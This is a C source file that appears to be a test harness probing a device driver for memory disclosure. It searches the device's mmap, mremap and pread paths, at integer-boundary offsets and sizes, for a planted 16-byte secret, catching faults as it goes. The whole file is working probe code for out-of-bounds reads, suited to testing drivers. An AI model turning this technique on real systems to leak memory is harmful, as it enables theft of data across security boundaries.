// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - looks for a secret through the device, see attack.h.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

#define PAGE 4096UL
#define SECRET 16
#define NEAR 20 /* pages around each bound */
#define LOOK_AT (64UL << 20) /* of one mapping */
#define READ_AT_ONCE (64UL << 10)

static unsigned char secret[SECRET];
static sigjmp_buf denied;

static void on_denied(int sig)
{
	siglongjmp(denied, sig);
}

/* In a mapping of that many bytes; a page that faults is passed over. */
static bool in_mapping(const unsigned char *p, size_t length)
{
	volatile size_t i;

	if (length > LOOK_AT)
		length = LOOK_AT;
	for (i = 0; i < length; i += PAGE) {
		/* A whole mapping that faults is not tried page by page. */
		if (sigsetjmp(denied, 1)) {
			if (i == 0)
				return false;
			continue;
		}
		if (memmem(p + i, PAGE, secret, SECRET))
			return true;
	}
	return false;
}

static bool by_mmap(int fd, size_t length, uint64_t offset)
{
	unsigned char *p = mmap(NULL, length, PROT_READ, MAP_SHARED, fd, (off_t)offset), *grown;
	bool found;

	if (p == MAP_FAILED)
		return false;
	found = in_mapping(p, length);
	if (found)
		printf("found by mmap of %zu bytes at offset %#llx\n", length,
		       (unsigned long long)offset);
	/* What is mapped already may be let grow without the driver's being asked. */
	if (!found) {
		grown = mremap(p, length, length + NEAR * PAGE, MREMAP_MAYMOVE);
		if (grown != MAP_FAILED) {
			p = grown;
			length += NEAR * PAGE;
			found = in_mapping(p, length);
			if (found)
				printf("found by mremap to %zu bytes at offset %#llx\n", length,
				       (unsigned long long)offset);
		}
	}
	munmap(p, length);
	return found;
}

static bool by_read(int fd, uint64_t position)
{
	static unsigned char piece[READ_AT_ONCE];
	ssize_t n = pread(fd, piece, sizeof(piece), (off_t)position);

	if (n <= 0 || (size_t)n > sizeof(piece) || !memmem(piece, n, secret, SECRET))
		return false;
	printf("found by read of %zd bytes at position %#llx\n", n, (unsigned long long)position);
	return true;
}

/* Around a place in the device, all that may be mistaken for within it. */
static bool around(int fd, uint64_t place)
{
	static const size_t lengths[] = { PAGE, NEAR * PAGE, LOOK_AT };
	size_t i, k;

	for (i = 0; i < NEAR; i++) {
		for (k = 0; k < sizeof(lengths) / sizeof(lengths[0]); k++) {
			/* Long ones once are enough. */
			if (k && i % 8)
				continue;
			if (by_mmap(fd, lengths[k], place + i * PAGE) ||
			    by_mmap(fd, lengths[k], place - i * PAGE))
				return true;
		}
		if (by_read(fd, place + i * PAGE))
			return true;
	}
	return false;
}

static bool search(int fd)
{
	unsigned bit;
	size_t i;

	for (i = 1; i <= NEAR; i++)
		if (by_mmap(fd, i * PAGE, 0))
			return true;
	for (bit = 16; bit < 48; bit++)
		if (by_mmap(fd, 1UL << bit, 0) || by_mmap(fd, (1UL << bit) + PAGE, 0))
			return true;
	if (around(fd, 0))
		return true;
	/* Where numbers of 31 and 32 bits end, in bytes and in pages, and signed ones. */
	for (bit = 16; bit < 64; bit++)
		if (by_mmap(fd, PAGE, 1UL << bit) || by_read(fd, 1UL << bit))
			return true;
	return around(fd, 1UL << 31) || around(fd, 1UL << 32) || around(fd, 1UL << 43) ||
	       around(fd, 1UL << 44) || around(fd, 1UL << 63);
}

void attack_search(int fd, const char *hex)
{
	struct sigaction on = { .sa_handler = on_denied }, segv, bus;
	unsigned i, byte;

	for (i = 0; i < SECRET && sscanf(hex + 2 * i, "%2x", &byte) == 1; i++)
		secret[i] = byte;
	sigaction(SIGSEGV, &on, &segv);
	sigaction(SIGBUS, &on, &bus);
	if (!search(fd))
		puts("nothing");
	sigaction(SIGSEGV, &segv, NULL);
	sigaction(SIGBUS, &bus, NULL);
}
